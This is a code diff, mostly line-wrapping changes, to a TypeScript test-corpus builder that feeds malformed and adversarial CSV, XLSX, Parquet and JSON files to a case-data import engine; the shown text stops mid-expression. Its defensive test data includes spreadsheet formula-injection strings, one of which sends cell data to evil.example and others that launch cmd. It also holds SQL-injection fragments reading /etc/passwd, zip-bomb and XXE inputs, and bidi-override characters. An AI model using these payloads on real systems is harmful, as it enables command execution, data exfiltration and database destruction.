@@ -94,7 +94,8 @@ export function writeBaseline(dir: string): string {
 	);
 	const ratings = Array.from(
 		{ length: 12 },
-		(_, i) => `RB${i},B${String(i * 3).padStart(4, '0')},D01,online,2018-04-0${(i % 9) + 1} 12:00,${(i % 5) + 1},${i % 5 < 2 ? '慢' : ''}`
+		(_, i) =>
+			`RB${i},B${String(i * 3).padStart(4, '0')},D01,online,2018-04-0${(i % 9) + 1} 12:00,${(i % 5) + 1},${i % 5 < 2 ? '慢' : ''}`
 	);
 	fs.writeFileSync(
 		path.join(d, 'ratings.csv'),
@@ -179,14 +180,24 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 			id: 'csv-truncated-mid-row',
 			about: 'CSV cut inside the last record (too few fields)',
 			files: [file('trunc-row/cases.csv', cut)],
-			expect: { outcome: 'stored', stored: 4, rejected: 1, rejects: [{ row: 6, reason: /ragged_row|unreadable_row/ }] }
+			expect: {
+				outcome: 'stored',
+				stored: 4,
+				rejected: 1,
+				rejects: [{ row: 6, reason: /ragged_row|unreadable_row/ }]
+			}
 		});
 		const q = csv([...goods('TR2', 3), good('TR2-4', { reject_reason: 'a, "quoted"\nline' })]);
 		add({
 			id: 'csv-truncated-open-quote',
 			about: 'CSV cut inside a quoted field (quote never closed)',
 			files: [file('trunc-quote/cases.csv', q.slice(0, q.lastIndexOf('line') + 2))],
-			expect: { outcome: 'stored', stored: 3, rejected: 1, rejects: [{ row: 5, reason: /ragged_row|bad_quote|unreadable_row/ }] }
+			expect: {
+				outcome: 'stored',
+				stored: 3,
+				rejected: 1,
+				rejects: [{ row: 5, reason: /ragged_row|bad_quote|unreadable_row/ }]
+			}
 		});
 		add({
 			id: 'csv-truncated-header',
@@ -201,22 +212,34 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 			id: 'csv-truncated-mid-utf8-char',
 			about: 'UTF-8 CSV cut inside a multi-byte character',
 			files: [file('trunc-utf8/cases.csv', zh.subarray(0, at + 2))],
-			expect: { outcome: 'stored', stored: 3, rejected: 1, rejects: [{ row: 5, reason: /ragged_row|bad_encoding|unreadable_row/ }] }
+			expect: {
+				outcome: 'stored',
+				stored: 3,
+				rejected: 1,
+				rejects: [{ row: 5, reason: /ragged_row|bad_encoding|unreadable_row/ }]
+			}
 		});
 	}
 
 	// ---------------- CSV: encodings and BOMs
 	{
-		const zhHeader = '办件编号,事项编码,办理部门编码,区划代码,办理渠道,申请人类型,申请时间,受理时间,办结时间,办件状态,不予受理原因,跑动次数';
+		const zhHeader =
+			'办件编号,事项编码,办理部门编码,区划代码,办理渠道,申请人类型,申请时间,受理时间,办结时间,办件状态,不予受理原因,跑动次数';
 		const zhRow = (id: string, st = '办结', reason = '') =>
 			`${id},I001,D02,430102,网上,自然人,2018/3/5 9:00,2018/3/5 10:00,${st === '办结' ? '2018/3/7 10:00' : ''},${st},${reason},1`;
-		const zhText = (p: string, n: number) => [zhHeader, ...ids(p, n).map((id) => zhRow(id))].join('\r\n') + '\r\n';
+		const zhText = (p: string, n: number) =>
+			[zhHeader, ...ids(p, n).map((id) => zhRow(id))].join('\r\n') + '\r\n';
 		add({
 			id: 'csv-gbk-detected',
 			about: 'GBK with Chinese headers and values (detected)',
 			files: [file('enc-gbk/办件.csv', gbEncode(zhText('EG', 4), 'gbk'))],
 			expect: { outcome: 'stored', stored: 4, rejected: 0 },
-			verify: [{ sql: `SELECT count(*)::INT AS n FROM cases WHERE case_id LIKE 'EG-%' AND status = 'completed'`, equals: 4 }]
+			verify: [
+				{
+					sql: `SELECT count(*)::INT AS n FROM cases WHERE case_id LIKE 'EG-%' AND status = 'completed'`,
+					equals: 4
+				}
+			]
 		});
 		add({
 			id: 'csv-gbk-declared-utf8',
@@ -241,18 +264,36 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 			id: 'csv-mixed-encodings',
 			about: 'UTF-8 file with one GBK-encoded row: the UTF-8 rows stored, the GBK row listed',
 			files: [file('enc-mixed/办件.csv', mixed)],
-			expect: { outcome: 'stored', stored: 3, rejected: 1, rejects: [{ row: 4, reason: /unreadable_row|bad_encoding/ }] }
+			expect: {
+				outcome: 'stored',
+				stored: 3,
+				rejected: 1,
+				rejects: [{ row: 4, reason: /unreadable_row|bad_encoding/ }]
+			}
 		});
 		add({
 			id: 'csv-utf8-bom',
 			about: 'UTF-8 with BOM and Chinese headers',
-			files: [file('bom8/办件.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(zhText('BOM8', 3), 'utf8')]))],
+			files: [
+				file(
+					'bom8/办件.csv',
+					Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(zhText('BOM8', 3), 'utf8')])
+				)
+			],
 			expect: { outcome: 'stored', stored: 3, rejected: 0 }
 		});
 		add({
 			id: 'csv-double-bom',
 			about: 'two UTF-8 BOMs in front of the header',
-			files: [file('bom88/cases.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), Buffer.from(csv(goods('BOM88', 2)))]))],
+			files: [
+				file(
+					'bom88/cases.csv',
+					Buffer.concat([
+						Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]),
+						Buffer.from(csv(goods('BOM88', 2)))
+					])
+				)
+			],
 			expect: { outcome: 'either' }
 		});
 		const u16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csv(goods('U16', 2)), 'utf16le')]);
@@ -282,12 +323,27 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 		add({
 			id: 'csv-mixed-eol',
 			about: 'LF, CRLF and CR mixed in one file',
-			files: [file('eol-mixed/cases.csv', mixedEol[0] + '\n' + mixedEol[1] + '\r\n' + mixedEol[2] + '\n' + mixedEol[3] + '\r\n' + mixedEol[4] + '\n')],
+			files: [
+				file(
+					'eol-mixed/cases.csv',
+					mixedEol[0] +
+						'\n' +
+						mixedEol[1] +
+						'\r\n' +
+						mixedEol[2] +
+						'\n' +
+						mixedEol[3] +
+						'\r\n' +
+						mixedEol[4] +
+						'\n'
+				)
+			],
 			expect: { outcome: 'stored', stored: 4, rejected: 0 }
 		});
 		add({
 			id: 'csv-quotes-embedded-newlines',
-			about: 'quoted fields with commas, doubled quotes and CRLF / LF inside; bad row after them keeps its record number',
+			about:
+				'quoted fields with commas, doubled quotes and CRLF / LF inside; bad row after them keeps its record number',
 			files: [
 				file(
 					'quotes/cases.csv',
@@ -299,8 +355,18 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 					])
 				)
 			],
-			expect: { outcome: 'stored', stored: 3, rejected: 1, rejects: [{ row: 4, column: 'visits', reason: 'bad_number' }] },
-			verify: [{ sql: `SELECT reject_reason AS v FROM cases WHERE case_id = 'QT-1'`, equals: 'line one\nline two, "quoted"' }]
+			expect: {
+				outcome: 'stored',
+				stored: 3,
+				rejected: 1,
+				rejects: [{ row: 4, column: 'visits', reason: 'bad_number' }]
+			},
+			verify: [
+				{
+					sql: `SELECT reject_reason AS v FROM cases WHERE case_id = 'QT-1'`,
+					equals: 'line one\nline two, "quoted"'
+				}
+			]
 		});
 		add({
 			id: 'csv-semicolon-tab',
@@ -315,15 +381,35 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 		let seed = 42;
 		const junk = Buffer.alloc(64 * 1024);
 		for (let i = 0; i < junk.length; i++) junk[i] = (seed = (seed * 1103515245 + 12345) >>> 0) >>> 24;
-		add({ id: 'csv-binary-junk', about: 'random bytes named .csv', files: [file('junk/cases.csv', junk)], expect: { outcome: 'refused' } });
+		add({
+			id: 'csv-binary-junk',
+			about: 'random bytes named .csv',
+			files: [file('junk/cases.csv', junk)],
+			expect: { outcome: 'refused' }
+		});
 		add({
 			id: 'csv-png-named-csv',
 			about: 'a PNG header + NULs named .csv',
-			files: [file('png/cases.csv', Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(2048)]))],
+			files: [
+				file(
+					'png/cases.csv',
+					Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(2048)])
+				)
+			],
 			expect: { outcome: 'refused' }
 		});
-		add({ id: 'csv-empty', about: 'empty file (0 bytes)', files: [file('empty/cases.csv', '')], expect: { outcome: 'refused' } });
-		add({ id: 'csv-blank-lines', about: 'only blank lines', files: [file('blank/cases.csv', '\n\n\r\n')], expect: { outcome: 'refused' } });
+		add({
+			id: 'csv-empty',
+			about: 'empty file (0 bytes)',
+			files: [file('empty/cases.csv', '')],
+			expect: { outcome: 'refused' }
+		});
+		add({
+			id: 'csv-blank-lines',
+			about: 'only blank lines',
+			files: [file('blank/cases.csv', '\n\n\r\n')],
+			expect: { outcome: 'refused' }
+		});
 		add({
 			id: 'csv-header-only',
 			about: 'header but 0 rows',
@@ -354,7 +440,9 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 		add({
 			id: 'csv-foreign-headers',
 			about: 'headers in French (unknown language) — file name says cases',
-			files: [file('hdr-fr/cases.csv', 'numéro,objet,service,date de dépôt,état\nF1,I001,D02,2018-03-05,terminé\n')],
+			files: [
+				file('hdr-fr/cases.csv', 'numéro,objet,service,date de dépôt,état\nF1,I001,D02,2018-03-05,terminé\n')
+			],
 			expect: { outcome: 'refused' }
 		});
 		add({
@@ -377,7 +465,12 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 		add({
 			id: 'csv-empty-header-cells',
 			about: 'blank header cells between real ones',
-			files: [file('hdr-blank/cases.csv', 'case_id,,item_code,dept_code,,channel,submitted_at,status\nHB-1,x,I001,D02,y,online,2018-03-05,completed\n')],
+			files: [
+				file(
+					'hdr-blank/cases.csv',
+					'case_id,,item_code,dept_code,,channel,submitted_at,status\nHB-1,x,I001,D02,y,online,2018-03-05,completed\n'
+				)
+			],
 			expect: { outcome: 'stored', stored: 1, rejected: 0 }
 		});
 	}
@@ -412,8 +505,12 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 			['-2018-03-05', /bad_date|date_out_of_range/ as unknown as string],
 			['2018-03-05; DROP TABLE cases', 'bad_date']
 		];
-		const rows = forms.map(([v], i) => good(`DT-${i + 1}`, { submitted_at: v, accepted_at: null, completed_at: null, status: 'in_progress' }));
-		const bad = forms.map(([, r], i) => ({ row: i + 2, column: 'submitted_at', reason: r })).filter((r) => r.reason !== null);
+		const rows = forms.map(([v], i) =>
+			good(`DT-${i + 1}`, { submitted_at: v, accepted_at: null, completed_at: null, status: 'in_progress' })
+		);
+		const bad = forms
+			.map(([, r], i) => ({ row: i + 2, column: 'submitted_at', reason: r }))
+			.filter((r) => r.reason !== null);
 		add({
 			id: 'csv-date-forms',
 			about: 'dates in every odd form, impossible dates, far past / future',
@@ -425,17 +522,27 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 				rejects: bad.map((b) => ({ row: b.row, column: b.column, reason: b.reason as string | RegExp }))
 			},
 			verify: [
-				{ sql: `SELECT strftime(submitted_at, '%Y-%m-%d %H:%M:%S') AS v FROM cases WHERE case_id = 'DT-9'`, equals: '2018-03-05 14:02:07' },
-				{ sql: `SELECT strftime(submitted_at, '%Y-%m-%d') AS v FROM cases WHERE case_id = 'DT-10'`, equals: '2018-03-05' }
+				{
+					sql: `SELECT strftime(submitted_at, '%Y-%m-%d %H:%M:%S') AS v FROM cases WHERE case_id = 'DT-9'`,
+					equals: '2018-03-05 14:02:07'
+				},
+				{
+					sql: `SELECT strftime(submitted_at, '%Y-%m-%d') AS v FROM cases WHERE case_id = 'DT-10'`,
+					equals: '2018-03-05'
+				}
 			]
 		});
 		add({
 			id: 'csv-completion-before-acceptance',
-			about: 'completed_at before accepted_at: stored, elapsed floored at 0, flagged fake_completion_suspect by the engine',
+			about:
+				'completed_at before accepted_at: stored, elapsed floored at 0, flagged fake_completion_suspect by the engine',
 			files: [
 				file(
 					'order/cases.csv',
-					csv([good('CB-1', { accepted_at: '2018-03-09 10:00', completed_at: '2018-03-05 10:00' }), good('CB-2')])
+					csv([
+						good('CB-1', { accepted_at: '2018-03-09 10:00', completed_at: '2018-03-05 10:00' }),
+						good('CB-2')
+					])
 				)
 			],
 			expect: { outcome: 'stored', stored: 2, rejected: 0 },
@@ -481,7 +588,17 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 		add({
 			id: 'csv-duplicate-ids-in-file',
 			about: 'the same case_id three times in one file (first kept, the others listed with the first row)',
-			files: [file('dup-in/cases.csv', csv([good('DI-1'), good('DI-2'), good('DI-1', { status: 'in_progress', completed_at: null }), good('DI-1')]))],
+			files: [
+				file(
+					'dup-in/cases.csv',
+					csv([
+						good('DI-1'),
+						good('DI-2'),
+						good('DI-1', { status: 'in_progress', completed_at: null }),
+						good('DI-1')
+					])
+				)
+			],
 			expect: {
 				outcome: 'stored',
 				stored: 2,
@@ -496,8 +613,14 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 			id: 'csv-duplicate-ids-across-files',
 			about: 'the same case_ids in two files of one batch (later file name upserts, one row per key)',
 			files: [
-				file('dup-across/cases-a.csv', csv([good('DA-1', { status: 'in_progress', completed_at: null }), good('DA-2')])),
-				file('dup-across/cases-b.csv', csv([good('DA-1', { completed_at: '2018-03-08 10:00' }), good('DA-3')]))
+				file(
+					'dup-across/cases-a.csv',
+					csv([good('DA-1', { status: 'in_progress', completed_at: null }), good('DA-2')])
+				),
+				file(
+					'dup-across/cases-b.csv',
+					csv([good('DA-1', { completed_at: '2018-03-08 10:00' }), good('DA-3')])
+				)
 			],
 			expect: { outcome: 'stored', stored: 4, rejected: 0 },
 			verify: [
@@ -511,7 +634,12 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 			files: [
 				file(
 					'codes/cases.csv',
-					csv([good('UC-1', { item_code: 'NOPE' }), good('UC-2', { dept_code: 'D99' }), good('UC-3'), good('UC-4', { item_code: "I001' OR '1'='1" })])
+					csv([
+						good('UC-1', { item_code: 'NOPE' }),
+						good('UC-2', { dept_code: 'D99' }),
+						good('UC-3'),
+						good('UC-4', { item_code: "I001' OR '1'='1" })
+					])
 				)
 			],
 			expect: {
@@ -525,7 +653,14 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 				]
 			}
 		});
-		const inj = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '\r=1+1'];
+		const inj = [
+			'=HYPERLINK("http://evil.example/?"&A1,"click")',
+			"+cmd|' /C calc'!A0",
+			"-2+3+cmd|' /C calc'!A0",
+			"@SUM(1+1)*cmd|'/C calc'!A0",
+			'\t=1+1',
+			'\r=1+1'
+		];
 		add({
 			id: 'csv-formula-injection',
 			about: 'formula-injection strings in text fields: stored verbatim (neutralised only at export)',
@@ -533,18 +668,43 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 			expect: { outcome: 'stored', stored: inj.length, rejected: 0 },
 			verify: [{ sql: `SELECT reject_reason AS v FROM cases WHERE case_id = 'FI-1'`, equals: inj[0] }]
 		});
-		const sql = ["'; DROP TABLE cases; --", "' OR '1'='1", '"); DELETE FROM cases; --', "Robert'); DROP TABLE items;--", '1; ATTACH \'/etc/passwd\' AS x;', "$1 || (SELECT version())"];
+		const sql = [
+			"'; DROP TABLE cases; --",
+			"' OR '1'='1",
+			'"); DELETE FROM cases; --',
+			"Robert'); DROP TABLE items;--",
+			"1; ATTACH '/etc/passwd' AS x;",
+			'$1 || (SELECT version())'
+		];
 		add({
 			id: 'csv-sql-fragments',
 			about: 'SQL fragments in keys and text fields: stored verbatim, nothing executed',
-			files: [file('sql/cases.csv', csv(sql.map((v, i) => good(`SQ-${i + 1}${i === 0 ? v : ''}`, { reject_reason: v }))))],
+			files: [
+				file(
+					'sql/cases.csv',
+					csv(sql.map((v, i) => good(`SQ-${i + 1}${i === 0 ? v : ''}`, { reject_reason: v })))
+				)
+			],
 			expect: { outcome: 'stored', stored: sql.length, rejected: 0 },
 			verify: [
-				{ sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id = $1`, params: [`SQ-1${sql[0]}`], equals: 1 },
+				{
+					sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id = $1`,
+					params: [`SQ-1${sql[0]}`],
+					equals: 1
+				},
 				{ sql: `SELECT reject_reason AS v FROM cases WHERE case_id = 'SQ-2'`, equals: sql[1] }
 			]
 		});
-		const ctl = ['bell\u0007', 'esc\u001b[31mred', 'rtl\u202etxt.exe', 'zero\u200bwidth', 'del\u007f', 'nul\u0000byte', 'surrogate\ud83d\ude00ok', 'lone\u0085nel'];
+		const ctl = [
+			'bell\u0007',
+			'esc\u001b[31mred',
+			'rtl\u202etxt.exe',
+			'zero\u200bwidth',
+			'del\u007f',
+			'nul\u0000byte',
+			'surrogate\ud83d\ude00ok',
+			'lone\u0085nel'
+		];
 		add({
 			id: 'csv-control-characters',
 			about: 'control characters, bidi overrides, NUL, zero-width and emoji in text fields',
@@ -555,7 +715,9 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 		add({
 			id: 'csv-overlong-field',
 			about: 'a 2 MB text field in one row (below the 10 MB line limit)',
-			files: [file('long/cases.csv', csv([good('LF-1', { reject_reason: 'x'.repeat(2_000_000) }), good('LF-2')]))],
+			files: [
+				file('long/cases.csv', csv([good('LF-1', { reject_reason: 'x'.repeat(2_000_000) }), good('LF-2')]))
+			],
 			expect: { outcome: 'either' }
 		});
 	}
@@ -563,7 +725,12 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 	// ---------------- XLSX
 	{
 		const rows = [[...CASE_COLS] as (string | number | null)[]];
-		for (const r of [good('XL-1'), good('XL-2', { visits: 'many' }), good('XL-3', { submitted_at: '2018-02-30' }), good('XL-4')])
+		for (const r of [
+			good('XL-1'),
+			good('XL-2', { visits: 'many' }),
+			good('XL-3', { submitted_at: '2018-02-30' }),
+			good('XL-4')
+		])
 			rows.push(CASE_COLS.map((c) => r[c] as string | number | null));
 		const okBook = xlsx({ sheets: [{ name: 'cases', rows: sheetRows(rows) }] });
 		add({
@@ -590,11 +757,26 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 		add({
 			id: 'xlsx-truncated-mid-row',
 			about: 'sheet XML cut inside a row (malformed part)',
-			files: [file('xlsx-trunc-row/cases.xlsx', xlsx({ sheets: [{ name: 'cases', sheetXml: sheet.slice(0, sheet.indexOf('XL-3') + 2) }] }))],
+			files: [
+				file(
+					'xlsx-trunc-row/cases.xlsx',
+					xlsx({ sheets: [{ name: 'cases', sheetXml: sheet.slice(0, sheet.indexOf('XL-3') + 2) }] })
+				)
+			],
 			expect: { outcome: 'refused' }
 		});
-		add({ id: 'xlsx-not-a-zip', about: 'CSV text named .xlsx', files: [file('xlsx-text/cases.xlsx', csv(goods('XT', 2)))], expect: { outcome: 'refused' } });
-		add({ id: 'xlsx-empty', about: 'empty .xlsx', files: [file('xlsx-empty/cases.xlsx', '')], expect: { outcome: 'refused' } });
+		add({
+			id: 'xlsx-not-a-zip',
+			about: 'CSV text named .xlsx',
+			files: [file('xlsx-text/cases.xlsx', csv(goods('XT', 2)))],
+			expect: { outcome: 'refused' }
+		});
+		add({
+			id: 'xlsx-empty',
+			about: 'empty .xlsx',
+			files: [file('xlsx-empty/cases.xlsx', '')],
+			expect: { outcome: 'refused' }
+		});
 		add({
 			id: 'xlsx-no-rows',
 			about: 'workbook whose only sheet is empty',
@@ -604,7 +786,9 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 		add({
 			id: 'xlsx-header-only',
 			about: 'workbook with a header row only (0 data rows)',
-			files: [file('xlsx-head/cases.xlsx', xlsx({ sheets: [{ name: 'cases', rows: sheetRows([rows[0]]) }] }))],
+			files: [
+				file('xlsx-head/cases.xlsx', xlsx({ sheets: [{ name: 'cases', rows: sheetRows([rows[0]]) }] }))
+			],
 			expect: { outcome: 'either' }
 		});
 		// zip bomb-like: 60 M characters of one shared string compress to ~60 KB
@@ -616,7 +800,12 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 				file(
 					'xlsx-bomb1/cases.xlsx',
 					xlsx({
-						sheets: [{ name: 'cases', rows: sheetRows([[...CASE_COLS]]) + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>' }],
+						sheets: [
+							{
+								name: 'cases',
+								rows: sheetRows([[...CASE_COLS]]) + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'
+							}
+						],
 						sharedStrings: bombSst
 					})
 				)
@@ -626,7 +815,12 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 		add({
 			id: 'xlsx-bomb-declared-size',
 			about: 'zip bomb-like: a sheet declaring 4.2 GB uncompressed',
-			files: [file('xlsx-bomb2/cases.xlsx', xlsx({ sheets: [{ name: 'cases', rows: sheetRows(rows), declaredSize: 0xfffffff0 }] }))],
+			files: [
+				file(
+					'xlsx-bomb2/cases.xlsx',
+					xlsx({ sheets: [{ name: 'cases', rows: sheetRows(rows), declaredSize: 0xfffffff0 }] })
+				)
+			],
 			expect: { outcome: 'either' }
 		});
 		// a sheet that inflates to ~120 MB of empty rows (no values): must be skipped without holding it
@@ -647,7 +841,12 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 			about: 'billion-laughs entities and an external entity (XXE) in a sheet',
 			files: [file('xlsx-xxe/cases.xlsx', xlsx({ sheets: [{ name: 'cases', sheetXml: dtd }] }))],
 			expect: { outcome: 'either' },
-			verify: [{ sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id LIKE '%root:%' OR case_id LIKE '%aaaaaaaaaa%'`, equals: 0 }]
+			verify: [
+				{
+					sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id LIKE '%root:%' OR case_id LIKE '%aaaaaaaaaa%'`,
+					equals: 0
+				}
+			]
 		});
 	}
 
@@ -681,25 +880,87 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 				}
 			});
 			const bytes = fs.readFileSync(pq);
-			add({ id: 'parquet-truncated', about: 'Parquet cut at 70 % (footer gone)', files: [file('parquet-trunc/cases.parquet', bytes.subarray(0, Math.floor(bytes.length * 0.7)))], expect: { outcome: 'refused' } });
+			add({
+				id: 'parquet-truncated',
+				about: 'Parquet cut at 70 % (footer gone)',
+				files: [file('parquet-trunc/cases.parquet', bytes.subarray(0, Math.floor(bytes.length * 0.7)))],
+				expect: { outcome: 'refused' }
+			});
 			const corrupt = Buffer.from(bytes);
 			for (let i = 8; i < corrupt.length - 12; i += 7) corrupt[i] ^= 0x5a;
-			add({ id: 'parquet-corrupt-pages', about: 'Parquet with intact magic but scrambled pages', files: [file('parquet-corrupt/cases.parquet', corrupt)], expect: { outcome: 'either' } });
-			add({ id: 'parquet-empty', about: 'empty .parquet', files: [file('parquet-empty/cases.parquet', '')], expect: { outcome: 'refused' } });
+			add({
+				id: 'parquet-corrupt-pages',
+				about: 'Parquet with intact magic but scrambled pages',
+				files: [file('parquet-corrupt/cases.parquet', corrupt)],
+				expect: { outcome: 'either' }
+			});
+			add({
+				id: 'parquet-empty',
+				about: 'empty .parquet',
+				files: [file('parquet-empty/cases.parquet', '')],
+				expect: { outcome: 'refused' }
+			});
 			const pq0 = path.join(dir, 'parquet-zero/cases.parquet');
 			fs.mkdirSync(path.dirname(pq0), { recursive: true });
-			await conn.run(`COPY (SELECT 'x' AS case_id, 'I001' AS item_code, 'D02' AS dept_code, 'online' AS channel, '2018-03-05' AS submitted_at, 'completed' AS status LIMIT 0) TO '${pq0}' (FORMAT parquet)`);
-			add({ id: 'parquet-zero-rows', about: 'Parquet with a schema and 0 rows', files: [pq0], expect: { outcome: 'stored', stored: 0, rejected: 0 } });
+			await conn.run(
+				`COPY (SELECT 'x' AS case_id, 'I001' AS item_code, 'D02' AS dept_code, 'online' AS channel, '2018-03-05' AS submitted_at, 'completed' AS status LIMIT 0) TO '${pq0}' (FORMAT parquet)`
+			);
+			add({
+				id: 'parquet-zero-rows',
+				about: 'Parquet with a schema and 0 rows',
+				files: [pq0],
+				expect: { outcome: 'stored', stored: 0, rejected: 0 }
+			});
 		} finally {
 			conn.closeSync();
 			inst.closeSync();
 		}
 		const jrows = [
-			{ case_id: 'JS-1', item_code: 'I001', dept_code: 'D02', channel: 'online', submitted_at: '2018-03-05T09:00:00+08:00', status: 'completed', completed_at: '2018-03-07 10:00', visits: 1 },
-			{ case_id: 'JS-2', item_code: 'I001', dept_code: 'D02', channel: 'online', submitted_at: true, status: 'in_progress', visits: [1, 2] },
-			{ case_id: 123, item_code: 'I001', dept_code: 'D02', channel: 'online', submitted_at: '2018-03-05', status: 'in_progress', visits: { n: 1 } },
-			{ case_id: null, item_code: 'I001', dept_code: 'D02', channel: 'online', submitted_at: '2018-03-05', status: 'in_progress' },
-			{ case_id: 'JS-5', item_code: 'I001', dept_code: 'D02', channel: 'online', submitted_at: '2018-03-05', status: 'in_progress', extra: { deep: [1, { x: 'y' }] } }
+			{
+				case_id: 'JS-1',
+				item_code: 'I001',
+				dept_code: 'D02',
+				channel: 'online',
+				submitted_at: '2018-03-05T09:00:00+08:00',
+				status: 'completed',
+				completed_at: '2018-03-07 10:00',
+				visits: 1
+			},
+			{
+				case_id: 'JS-2',
+				item_code: 'I001',
+				dept_code: 'D02',
+				channel: 'online',
+				submitted_at: true,
+				status: 'in_progress',
+				visits: [1, 2]
+			},
+			{
+				case_id: 123,
+				item_code: 'I001',
+				dept_code: 'D02',
+				channel: 'online',
+				submitted_at: '2018-03-05',
+				status: 'in_progress',
+				visits: { n: 1 }
+			},
+			{
+				case_id: null,
+				item_code: 'I001',
+				dept_code: 'D02',
+				channel: 'online',
+				submitted_at: '2018-03-05',
+				status: 'in_progress'
+			},
+			{
+				case_id: 'JS-5',
+				item_code: 'I001',
+				dept_code: 'D02',
+				channel: 'online',
+				submitted_at: '2018-03-05',
+				status: 'in_progress',
+				extra: { deep: [1, { x: 'y' }] }
+			}
 		];
 		const jtext = JSON.stringify(jrows, null, 1);
 		add({
@@ -718,15 +979,75 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 				]
 			}
 		});
-		add({ id: 'json-truncated', about: 'JSON array cut mid-object', files: [file('json-trunc/cases.json', jtext.slice(0, Math.floor(jtext.length * 0.6)))], expect: { outcome: 'refused' } });
-		add({ id: 'json-empty', about: 'empty .json', files: [file('json-empty/cases.json', '')], expect: { outcome: 'refused' } });
-		add({ id: 'json-empty-array', about: '[] (0 rows)', files: [file('json-zero/cases.json', '[]')], expect: { outcome: 'either' } });
-		add({ id: 'json-not-json', about: 'CSV text named .json', files: [file('json-csv/cases.json', csv(goods('JC', 2)))], expect: { outcome: 'refused' } });
-		add({ id: 'json-scalar', about: 'a JSON scalar instead of records', files: [file('json-scalar/cases.json', '42')], expect: { outcome: 'either' } });
-		const nd = jrows.slice(0, 1).concat([{ ...jrows[0], case_id: 'ND-2' }, { ...jrows[0], case_id: 'ND-3' }]).map((r) => JSON.stringify(r)).join('\n') + '\n';
-		add({ id: 'ndjson-ok', about: 'NDJSON, 3 good records', files: [file('nd-ok/cases.ndjson', nd.replaceAll('JS-1', 'ND-1'))], expect: { outcome: 'stored', stored: 3, rejected: 0 } });
-		add({ id: 'ndjson-truncated-mid-line', about: 'NDJSON cut inside the last record', files: [file('nd-trunc/cases.ndjson', nd.replaceAll('JS-1', 'NT-1').replaceAll('ND-', 'NT-').slice(0, nd.length - 25))], expect: { outcome: 'either' } });
-		add({ id: 'ndjson-garbage-line', about: 'NDJSON with a non-JSON line in the middle', files: [file('nd-garbage/cases.ndjson', nd.replaceAll('JS-1', 'NG-1').replaceAll('ND-', 'NG-').replace('\n', '\nnot json at all\n'))], expect: { outcome: 'either' } });
+		add({
+			id: 'json-truncated',
+			about: 'JSON array cut mid-object',
+			files: [file('json-trunc/cases.json', jtext.slice(0, Math.floor(jtext.length * 0.6)))],
+			expect: { outcome: 'refused' }
+		});
+		add({
+			id: 'json-empty',
+			about: 'empty .json',
+			files: [file('json-empty/cases.json', '')],
+			expect: { outcome: 'refused' }
+		});
+		add({
+			id: 'json-empty-array',
+			about: '[] (0 rows)',
+			files: [file('json-zero/cases.json', '[]')],
+			expect: { outcome: 'either' }
+		});
+		add({
+			id: 'json-not-json',
+			about: 'CSV text named .json',
+			files: [file('json-csv/cases.json', csv(goods('JC', 2)))],
+			expect: { outcome: 'refused' }
+		});
+		add({
+			id: 'json-scalar',
+			about: 'a JSON scalar instead of records',
+			files: [file('json-scalar/cases.json', '42')],
+			expect: { outcome: 'either' }
+		});
+		const nd =
+			(jrows.slice(0, 1) as Record<string, unknown>[])
+				.concat([
+					{ ...jrows[0], case_id: 'ND-2' },
+					{ ...jrows[0], case_id: 'ND-3' }
+				])
+				.map((r) => JSON.stringify(r))
+				.join('\n') + '\n';
+		add({
+			id: 'ndjson-ok',
+			about: 'NDJSON, 3 good records',
+			files: [file('nd-ok/cases.ndjson', nd.replaceAll('JS-1', 'ND-1'))],
+			expect: { outcome: 'stored', stored: 3, rejected: 0 }
+		});
+		add({
+			id: 'ndjson-truncated-mid-line',
+			about: 'NDJSON cut inside the last record',
+			files: [
+				file(
+					'nd-trunc/cases.ndjson',
+					nd
+						.replaceAll('JS-1', 'NT-1')
+						.replaceAll('ND-', 'NT-')
+						.slice(0, nd.length - 25)
+				)
+			],
+			expect: { outcome: 'either' }
+		});
+		add({
+			id: 'ndjson-garbage-line',
+			about: 'NDJSON with a non-JSON line in the middle',
+			files: [
+				file(
+					'nd-garbage/cases.ndjson',
